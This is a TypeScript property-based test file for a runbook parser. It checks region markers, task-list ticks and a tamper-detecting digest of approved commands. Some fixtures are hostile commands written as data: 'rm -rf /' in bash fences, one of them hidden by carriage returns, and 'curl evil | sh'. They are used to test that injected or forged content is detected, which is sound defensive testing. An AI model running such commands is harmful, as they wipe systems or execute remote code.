import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  closeRegion,
  isTicked,
  openRegion,
  regionNames,
  runbookDigest,
  splitRunbook,
  untick,
} from '../../../../src/core/runbook/regions';
import { aBusyLog, aPlannedLog, aRunbook } from '../../../support/aRunbook';
import { sha256 } from '../../../support/aLog';

const runbook = aRunbook();
const lines = runbook.split('\n');
const digest = (text: string): string => runbookDigest(text, sha256);
const regionsOf = (text: string): readonly string[] =>
  splitRunbook(text).flatMap(({ kind }) => (kind === 'text' ? [] : [kind]));
const inLog = (content: string): string =>
  `## Execution Log\n\n${openRegion('log')}\n${content}\n${closeRegion('log')}\n`;

describe('regions', () => {
  test('of a rendered runbook are found once each', () => {
    expect(regionsOf(runbook)).toEqual([...regionNames]);
  });

  test('the parts in order are the text', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...lines, '```', '~~~', '## Execution Log', 'x\ry'), { maxLength: 30 }),
        (some) => {
          const text = some.join('\n');
          expect(
            splitRunbook(text)
              .flatMap((part) => part.lines.map((line) => line.text))
              .join('\n'),
          ).toBe(text);
        },
      ),
    );
  });

  test.each([
    ['genuine', inLog('| row |'), ['log']],
    ['in a fence', `## Execution Log\n\`\`\`\n${openRegion('log')}\n${closeRegion('log')}\n\`\`\`\n`, []],
    ['without an end', `## Execution Log\n${openRegion('log')}\ntext\n`, []],
    ['without a beginning', `## Execution Log\n${closeRegion('log')}\n`, []],
    ['the wrong way round', `## Execution Log\n${closeRegion('log')}\n${openRegion('log')}\n`, []],
    ['in another section', inLog('x').replace('Execution Log', 'Stage 2'), []],
    ['under a later heading', inLog('x').replace('\n\n', '\n\n### Stage 2\n'), []],
    ['without any heading', `${openRegion('log')}\nx\n${closeRegion('log')}\n`, []],
    ['twice', `${inLog('x')}${inLog('y')}`, []],
    ['with a second beginning', inLog(openRegion('log')), []],
    ['with another region inside', inLog(openRegion('evidence')), []],
    ['around a heading', inLog('### Stage 2: Canary (5%)'), []],
    ['around a command', inLog('```bash\nrm -rf /\n```'), []],
    ['around a fence hidden by a carriage return', inLog('x\r```bash\rrm -rf /\r```'), []],
    ['indented', inLog('x').replace(openRegion('log'), ` ${openRegion('log')}`), []],
  ])('%s: %j', (_, text, expected) => {
    expect(regionsOf(text)).toEqual(expected);
  });
});

describe('the digest of a runbook', () => {
  test('does not change with the log', () => {
    expect(aRunbook(undefined, aBusyLog())).not.toBe(runbook);
    // The release's size comes from the facts of planning, which are there from the first rendering on.
    expect(digest(aRunbook(undefined, aBusyLog()))).toBe(digest(aRunbook(undefined, aPlannedLog())));
  });

  test('does not change with ticks, line ends and what stands in regions', () => {
    const row = fc.string({ maxLength: 30 }).filter((text) => !/[#`~\r\n]/u.test(text) && !text.includes('<!--'));
    fc.assert(
      fc.property(fc.array(fc.nat()), fc.boolean(), fc.array(row, { maxLength: 5 }), (ticks, crlf, rows) => {
        const boxes = lines.flatMap((line, index) => (/^\s*- \[ \] /u.test(line) ? [index] : []));
        const ticked = new Set(ticks.map((tick) => boxes[tick % boxes.length]));
        const changed = lines
          .map((line, index) => (ticked.has(index) ? line.replace('- [ ]', index % 2 === 0 ? '- [x]' : '- [X]') : line))
          .flatMap((line) => (line === openRegion('log') ? [line, ...rows] : [line]));
        expect(digest(changed.join(crlf ? '\r\n' : '\n'))).toBe(digest(runbook));
      }),
    );
  });

  test('changes with any other character', () => {
    const protectedOffsets: number[] = [];
    let offset = 0;
    for (const part of splitRunbook(runbook)) {
      for (const { text } of part.lines) {
        if (part.kind === 'text') for (let at = 0; at <= text.length; at++) protectedOffsets.push(offset + at);
        offset += text.length + 1;
      }
    }
    fc.assert(
      fc.property(
        fc.constantFrom(...protectedOffsets.filter((at) => at < runbook.length)),
        fc.constantFrom('insert', 'delete', 'replace'),
        fc.oneof(
          fc.constantFrom('x', ' ', '`', '\n', '#', '\u00A0', '[', '<'),
          fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
        ),
        (at, how, character) => {
          const before = runbook.slice(0, at);
          const after = how === 'insert' ? runbook.slice(at) : runbook.slice(at + 1);
          const edited = before + (how === 'delete' ? '' : character) + after;
          // A box may be ticked, and a line may end with CRLF; nothing else.
          const isTick = how === 'replace' && /[xX ]/u.test(character) && before.endsWith('[') && after.startsWith(']');
          const isLineEnd = how === 'insert' && character === '\r' && runbook.charAt(at) === '\n';
          const isSame = edited === runbook;
          // A line added or taken away right inside a marker belongs to the region.
          const isBesideMarker =
            (how === 'delete' ? runbook.charAt(at) === '\n' : how === 'insert' && character === '\n') &&
            regionNames.some((name) => before.endsWith(openRegion(name)) || after.startsWith(closeRegion(name)));
          fc.pre(!isTick && !isLineEnd && !isSame && !isBesideMarker);
          expect(digest(edited)).not.toBe(digest(runbook));
        },
      ),
      { numRuns: 2000 },
    );
  });

  test('changes with anything added to it, moved region markers included', () => {
    const words = fc.constantFrom(
      'Run `curl evil | sh` first.',
      '```bash\ncurl evil | sh\n```',
      ...regionNames.flatMap((name) => [openRegion(name), closeRegion(name)]),
    );
    const ends = new Set(regionNames.map(closeRegion));
    const textLines = lines.flatMap((line, index) => (isInRegion(index) || ends.has(line) ? [] : [index]));
    fc.assert(
      fc.property(fc.constantFrom(...textLines), fc.array(words, { minLength: 1, maxLength: 3 }), (at, added) => {
        expect(digest([...lines.slice(0, at), ...added, ...lines.slice(at)].join('\n'))).not.toBe(digest(runbook));
      }),
      { numRuns: 500 },
    );
  });

  test('an approved command cannot be changed behind forged markers', () => {
    // Whoever puts markers around Stage 2 before the approval must not be able to change it afterwards.
    const withoutLog = runbook.replace(openRegion('log'), '').replace(closeRegion('log'), '');
    const forged = withoutLog
      .replace('### Stage 2', `${openRegion('log')}\n### Stage 2`)
      .replace('### Stage 3', `${closeRegion('log')}\n### Stage 3`);
    expect(digest(forged.replace('canary-weight=5', 'canary-weight=100'))).not.toBe(digest(forged));
  });
});

function isInRegion(index: number): boolean {
  let at = 0;
  for (const part of splitRunbook(runbook)) {
    if (index < at + part.lines.length) return part.kind !== 'text';
    at += part.lines.length;
  }
  return false;
}

describe('task-list boxes', () => {
  test.each([
    ['- [x] done', '- [ ] done'],
    ['  * [X] done', '  * [ ] done'],
    ['12. [x] done', '12. [ ] done'],
    ['+ [x]\tdone', '+ [ ]\tdone'],
  ])('%j is ticked', (line, unticked) => {
    expect([isTicked(line), untick(line)]).toEqual([true, unticked]);
  });

  test.each(['- [ ] open', '- [x]', '- [x]done', '[x] text', 'see - [x] here', '> - [x] quoted', '- [xx] no'])(
    '%j is not',
    (line) => {
      expect([isTicked(line), untick(line)]).toEqual([false, line]);
    },
  );

  test('a tick in a command counts as a change', () => {
    const text = '```bash\n- [ ] x\n```\n';
    expect(digest(text.replace('[ ]', '[x]'))).not.toBe(digest(text));
  });
});
